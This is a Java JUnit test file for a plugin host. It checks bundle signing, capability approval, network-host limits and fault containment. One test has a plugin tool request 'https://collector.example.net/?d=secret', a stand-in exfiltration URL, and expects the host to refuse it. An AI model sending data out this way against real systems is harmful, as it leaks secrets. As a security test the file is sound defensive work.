package io.protohive.app.plugin;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;
import static org.awaitility.Awaitility.await;

import io.protohive.plugin.api.Configuration;
import io.protohive.plugin.api.ToolContext;
import io.protohive.pluginhost.BundleArchive;
import io.protohive.pluginhost.Capabilities;
import io.protohive.pluginhost.CapabilityRecord;
import io.protohive.pluginhost.Certificates;
import io.protohive.pluginhost.Inspection;
import io.protohive.pluginhost.Origin;
import io.protohive.pluginhost.PluginCalls;
import io.protohive.pluginhost.PluginDescriptor;
import io.protohive.pluginhost.PluginHost;
import io.protohive.pluginhost.PluginRefused;
import io.protohive.pluginhost.PluginTool;
import io.protohive.pluginhost.ToolOutcome;
import io.protohive.pluginhost.TrustPolicy;
import java.io.IOException;
import java.net.MalformedURLException;
import java.net.URL;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.security.cert.X509Certificate;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The real Felix host with the bundles the WAR ships, staged by the build under target/osgi, and
 * the test-only misbehaving plugin: admission, hot deploy, updates and fault containment.
 */
class PluginHostTest {

  private static final Path STAGED = Path.of("target/osgi/WEB-INF/osgi");
  private static final Path CLOCK = STAGED.resolve("plugins/tool-clock.jar");
  private static final String CLOCK_ID = "io.protohive.plugins.tool-clock";
  private static final Path HTTP = STAGED.resolve("plugins/tool-http.jar");
  private static final Path MISBEHAVING = Path.of("target/test-bundles/test-misbehaving.jar");
  private static final Duration WAIT = Duration.ofSeconds(30);
  private static final X509Certificate DEVELOPMENT;

  static {
    try {
      DEVELOPMENT =
          Certificates.parsePem(Files.readString(Path.of("../../sdk/signing/development.pem")));
    } catch (IOException e) {
      throw new ExceptionInInitializerError(e);
    }
  }

  @TempDir Path work;

  private PluginHost host;

  /** The platform's record of accepted capabilities, as the database keeps it across restarts. */
  private final Map<String, Capabilities> accepted = new ConcurrentHashMap<>();

  private final List<Inspection> held = new CopyOnWriteArrayList<>();

  private final CapabilityRecord capabilities =
      new CapabilityRecord() {
        @Override
        public Optional<Capabilities> accepted(String pluginId) {
          return Optional.ofNullable(accepted.get(pluginId));
        }

        @Override
        public void installed(String pluginId, Capabilities declared) {
          accepted.put(pluginId, declared);
        }

        @Override
        public void held(Inspection update) {
          held.add(update);
        }
      };

  @AfterEach
  void stopHost() {
    if (host != null) {
      host.close();
    }
  }

  @Test
  void startsTheBundledPluginsAsOsgiServices() throws Exception {
    List<BundleArchive> bundled = archives("plugins");
    host = start(bundled, false);

    assertThat(host.isRunning()).isTrue();
    assertThat(host.plugins()).hasSize(bundled.size());
    assertThat(host.plugins())
        .extracting(PluginDescriptor::id, PluginDescriptor::state, PluginDescriptor::origin)
        .contains(
            tuple("io.protohive.plugins.tool-clock", "ACTIVE", Origin.BUNDLED),
            tuple("io.protohive.plugins.tool-http", "ACTIVE", Origin.BUNDLED),
            tuple("io.protohive.plugins.llm-openai", "ACTIVE", Origin.BUNDLED),
            tuple("io.protohive.plugins.llm-scripted", "ACTIVE", Origin.BUNDLED));
    assertThat(host.plugins()).allMatch(PluginDescriptor::active);
    assertThat(host.plugins())
        .extracting(PluginDescriptor::signer)
        .containsOnly("CN=ProtoHive Development,O=ProtoHive");
    assertThat(host.providers())
        .extracting(p -> p.provider().id())
        .contains("openai", "anthropic", "ollama", "scripted");
    await().atMost(WAIT).until(() -> host.tool("clock.now").isPresent());
    ToolOutcome outcome = call(host.tool("clock.now").orElseThrow(), Map.of("zone", "UTC"));
    assertThat(outcome.status()).isEqualTo(ToolOutcome.Status.OK);
    assertThat(outcome.result().content()).endsWith("Z");
  }

  @Test
  void installsAndRemovesAJarDroppedIntoThePluginsFolder() throws Exception {
    host = start(List.of(), false);
    assertThat(host.plugins()).isEmpty();

    Path dropped = pluginsFolder().resolve("tool-clock.jar");
    Path staging = work.resolve("staging.jar");
    Files.copy(CLOCK, staging);
    Files.move(staging, dropped, StandardCopyOption.ATOMIC_MOVE);
    await().atMost(WAIT).until(() -> host.tool("clock.now").isPresent());
    assertThat(host.plugins()).extracting(PluginDescriptor::origin).containsExactly(Origin.FOLDER);

    Files.delete(dropped);
    await().atMost(WAIT).until(() -> host.plugins().isEmpty() && host.tools().isEmpty());
  }

  @Test
  void refusesAnUnsignedBundleAndSaysSo() throws Exception {
    host = start(List.of(), false);
    Path unsigned = BundleJars.unsigned(CLOCK, work.resolve("unsigned.jar"));

    assertThatThrownBy(() -> host.install(Origin.UPLOADED, unsigned))
        .isInstanceOf(PluginRefused.class)
        .hasMessageContaining("not signed");
    assertThat(host.plugins()).isEmpty();
  }

  @Test
  void acceptsAnUnsignedBundleOnlyWhenTheDevelopmentSettingSaysSo() throws Exception {
    host = start(List.of(), true);
    Path unsigned = BundleJars.unsigned(CLOCK, work.resolve("unsigned.jar"));

    PluginDescriptor plugin = host.install(Origin.UPLOADED, unsigned);

    assertThat(plugin.active()).isTrue();
    assertThat(plugin.signer()).isNull();
  }

  @Test
  void refusesATamperedBundleAndSaysSo() throws Exception {
    host = start(List.of(), true);
    Path tampered = BundleJars.tampered(CLOCK, work.resolve("tampered.jar"));

    assertThatThrownBy(() -> host.install(Origin.UPLOADED, tampered))
        .isInstanceOf(PluginRefused.class)
        .hasMessageContaining("tampered");
  }

  @Test
  void refusesABundleSignedByAnUntrustedPublisher() throws Exception {
    host = start(List.of(), false);
    Path foreign = BundleJars.signedBy(CLOCK, BundleJars.UNTRUSTED, work.resolve("foreign.jar"));

    assertThatThrownBy(() -> host.install(Origin.UPLOADED, foreign))
        .isInstanceOf(PluginRefused.class)
        .hasMessageContaining("CN=Unknown Publisher")
        .hasMessageContaining("not a trusted publisher");
  }

  @Test
  void refusesABundleForAnotherPluginSpiVersion() throws Exception {
    host = start(List.of(), false);
    Path future =
        BundleJars.withHeaders(
            CLOCK,
            Map.of("Import-Package", "io.protohive.plugin.api;version=\"[2.0,3)\""),
            BundleJars.DEVELOPMENT,
            work.resolve("future.jar"));

    assertThatThrownBy(() -> host.install(Origin.UPLOADED, future))
        .isInstanceOf(PluginRefused.class)
        .hasMessageContaining("needs plugin SPI [2.0.0,3.0.0)")
        .hasMessageContaining("offers 1.4.0");
  }

  @Test
  void aBundleThatCannotResolveIsRefusedWithItsMissingImportAndDisturbsNothingElse()
      throws Exception {
    List<BundleArchive> bundled = archives("plugins");
    host = start(bundled, false);
    Path broken =
        BundleJars.withHeaders(
            MISBEHAVING,
            Map.of(
                "Import-Package",
                "io.protohive.plugin.api;version=\"[1.0,2)\",org.example.missing"),
            BundleJars.DEVELOPMENT,
            work.resolve("broken.jar"));

    assertThatThrownBy(() -> host.install(Origin.UPLOADED, broken))
        .isInstanceOf(PluginRefused.class)
        .hasMessageContaining("org.example.missing");
    assertThat(host.plugins())
        .extracting(PluginDescriptor::active)
        .containsOnly(true)
        .hasSize(bundled.size());
  }

  @Test
  void anUpdateReplacesThePluginWithoutARestart() throws Exception {
    host = start(List.of(), false);
    host.install(Origin.UPLOADED, CLOCK);
    Path next =
        BundleJars.withHeaders(
            CLOCK,
            Map.of("Bundle-Version", "9.1.0"),
            BundleJars.DEVELOPMENT,
            work.resolve("9.jar"));

    PluginDescriptor updated = host.install(Origin.UPLOADED, next);

    assertThat(updated.version()).isEqualTo("9.1.0");
    assertThat(host.plugins()).hasSize(1);
    await().atMost(WAIT).until(() -> host.tool("clock.now").isPresent());
  }

  @Test
  void anInspectionTellsWhatAJarDeclaresWithoutInstallingIt() throws Exception {
    host = start(List.of(), false);

    Inspection inspection = host.inspect(HTTP);

    assertThat(inspection.id()).isEqualTo("io.protohive.plugins.tool-http");
    assertThat(inspection.signature()).isEqualTo("TRUSTED");
    assertThat(inspection.signer()).isEqualTo("CN=ProtoHive Development,O=ProtoHive");
    assertThat(inspection.capabilities().networkHosts()).containsExactly("*");
    assertThat(inspection.capabilities().consequentialTools()).containsExactly("http.post");
    assertThat(inspection.installedVersion()).isNull();
    assertThat(inspection.needsApproval()).isFalse();
    assertThat(host.plugins()).isEmpty();
    assertThat(accepted).isEmpty();
  }

  @Test
  void aFolderUpdateThatAddsAHostWaitsUntilItsCapabilitiesAreApproved() throws Exception {
    host = start(List.of(), false);
    Path first = pluginsFolder().resolve("clock-1.jar");
    Files.copy(CLOCK, first);
    await().atMost(WAIT).until(() -> host.plugin(CLOCK_ID).isPresent());
    String runningVersion = host.plugin(CLOCK_ID).orElseThrow().version();
    Path wider =
        BundleJars.withHeaders(
            CLOCK,
            Map.of("Bundle-Version", "9.2.0", "ProtoHive-Network-Hosts", "collector.example.net"),
            BundleJars.DEVELOPMENT,
            work.resolve("wider.jar"));

    Files.copy(wider, pluginsFolder().resolve("clock-2.jar"));

    await().atMost(WAIT).until(() -> !held.isEmpty());
    assertThat(held.get(0).addedCapabilities().networkHosts())
        .containsExactly("collector.example.net");
    assertThat(held.get(0).installedVersion()).isEqualTo(runningVersion);
    assertThat(host.plugin(CLOCK_ID).orElseThrow().version()).isEqualTo(runningVersion);

    accepted.put(CLOCK_ID, held.get(0).capabilities());
    host.retryHeld();

    assertThat(host.plugin(CLOCK_ID).orElseThrow().version()).isEqualTo("9.2.0");
  }

  @Test
  void aJarThatDeclaresMoreThanWasAcceptedIsHeldEvenWhenNoVersionRuns() throws Exception {
    accepted.put(CLOCK_ID, Capabilities.NONE);
    host = start(List.of(), false);
    Path coder =
        BundleJars.withHeaders(
            CLOCK,
            Map.of("ProtoHive-Executes-Code", "true"),
            BundleJars.DEVELOPMENT,
            work.resolve("c.jar"));

    Inspection inspection = host.inspect(coder);

    assertThat(inspection.needsApproval()).isTrue();
    assertThat(inspection.addedCapabilities().executesCode()).isTrue();
    Files.copy(coder, pluginsFolder().resolve("coder.jar"));
    await().atMost(WAIT).until(() -> !held.isEmpty());
    assertThat(host.plugins()).isEmpty();
  }

  @Test
  void refusesANetworkHostThatIsNotAHostPattern() throws Exception {
    host = start(List.of(), false);
    Path odd =
        BundleJars.withHeaders(
            CLOCK,
            Map.of("ProtoHive-Network-Hosts", "http://api.example.com/"),
            BundleJars.DEVELOPMENT,
            work.resolve("odd.jar"));

    assertThatThrownBy(() -> host.inspect(odd))
        .isInstanceOf(PluginRefused.class)
        .hasMessageContaining("'http://api.example.com/', which is not a host");
  }

  @Test
  void aPluginReachesOnlyTheHostsItDeclaresThroughTheHostClient() throws Exception {
    host = start(List.of(), false);
    Path narrow =
        BundleJars.withHeaders(
            HTTP,
            Map.of("ProtoHive-Network-Hosts", "api.example.com"),
            BundleJars.DEVELOPMENT,
            work.resolve("narrow.jar"));
    host.install(Origin.UPLOADED, narrow);
    await().atMost(WAIT).until(() -> host.tool("http.get").isPresent());

    ToolOutcome outcome =
        host.calls()
            .call(
                host.tool("http.get").orElseThrow(),
                Map.of("url", "https://collector.example.net/?d=secret"),
                ToolContext.builder(UUID.randomUUID())
                    .configuration(Configuration.of(Map.of("allowedHosts", "*.example.net"))),
                Duration.ofSeconds(10));

    assertThat(outcome.result().isError()).isTrue();
    assertThat(outcome.result().content())
        .isEqualTo(
            "Refused: the plugin io.protohive.plugins.tool-http does not declare"
                + " collector.example.net among its network hosts.");
  }

  @Test
  void aToolThatThrowsBecomesAToolError() throws Exception {
    host = start(List.of(), false);
    host.install(Origin.UPLOADED, MISBEHAVING);
    await().atMost(WAIT).until(() -> host.tool("misbehaving.throw").isPresent());

    ToolOutcome outcome = call(host.tool("misbehaving.throw").orElseThrow(), Map.of());

    assertThat(outcome.status()).isEqualTo(ToolOutcome.Status.FAILED);
    assertThat(outcome.result().content()).contains("this tool always fails");
  }

  @Test
  void aToolThatSleepsPastItsDeadlineTimesOutAndIsInterrupted() throws Exception {
    host = start(List.of(), false);
    host.install(Origin.UPLOADED, MISBEHAVING);
    await().atMost(WAIT).until(() -> host.tool("misbehaving.sleep").isPresent());

    ToolOutcome outcome =
        host.calls()
            .call(
                host.tool("misbehaving.sleep").orElseThrow(),
                Map.of(),
                ToolContext.builder(UUID.randomUUID()),
                Duration.ofMillis(300));

    assertThat(outcome.status()).isEqualTo(ToolOutcome.Status.TIMED_OUT);
    await()
        .atMost(WAIT)
        .until(() -> host.calls().running("io.protohive.plugins.test-misbehaving") == 0);
  }

  @Test
  void aSpinningPluginUsesUpOnlyItsOwnShareOfCalls() throws Exception {
    host = start(archives("plugins"), false);
    host.install(Origin.UPLOADED, MISBEHAVING);
    await().atMost(WAIT).until(() -> host.tool("misbehaving.spin").isPresent());
    PluginTool spin = host.tool("misbehaving.spin").orElseThrow();

    for (int i = 0; i < 2; i++) {
      ToolOutcome outcome =
          host.calls()
              .call(
                  spin,
                  Map.of("seconds", 3),
                  ToolContext.builder(UUID.randomUUID()),
                  Duration.ofMillis(100));
      assertThat(outcome.status()).isEqualTo(ToolOutcome.Status.TIMED_OUT);
    }
    ToolOutcome refused =
        host.calls()
            .call(
                spin,
                Map.of("seconds", 3),
                ToolContext.builder(UUID.randomUUID()),
                Duration.ofMillis(100));

    assertThat(refused.status()).isEqualTo(ToolOutcome.Status.BUSY);
    assertThat(call(host.tool("clock.now").orElseThrow(), Map.of()).status())
        .isEqualTo(ToolOutcome.Status.OK);
  }

  private ToolOutcome call(PluginTool tool, Map<String, Object> arguments) {
    return host.calls()
        .call(
            tool,
            arguments,
            ToolContext.builder(UUID.randomUUID()).configuration(Configuration.empty()),
            Duration.ofSeconds(10));
  }

  private PluginHost start(List<BundleArchive> bundled, boolean acceptUnsigned) throws Exception {
    TrustPolicy trust =
        new TrustPolicy() {
          @Override
          public List<X509Certificate> trustedCertificates() {
            return List.of(DEVELOPMENT);
          }

          @Override
          public boolean acceptsUnsigned() {
            return acceptUnsigned;
          }
        };
    return PluginHost.start(
        new PluginHost.Settings(
            archives("framework"),
            pluginsFolder(),
            work.resolve("host"),
            trust,
            capabilities,
            List.of(),
            new PluginCalls.Limits(8, 2, 8),
            new PluginCalls.Limits(8, 8, 8)),
        bundled);
  }

  private Path pluginsFolder() {
    return work.resolve("plugins");
  }

  private static List<BundleArchive> archives(String folder) throws IOException {
    try (Stream<Path> jars = Files.list(STAGED.resolve(folder))) {
      return jars.sorted()
          .map(jar -> new BundleArchive(jar.getFileName().toString(), toUrl(jar)))
          .toList();
    }
  }

  private static URL toUrl(Path path) {
    try {
      return path.toUri().toURL();
    } catch (MalformedURLException e) {
      throw new IllegalArgumentException(e);
    }
  }
}
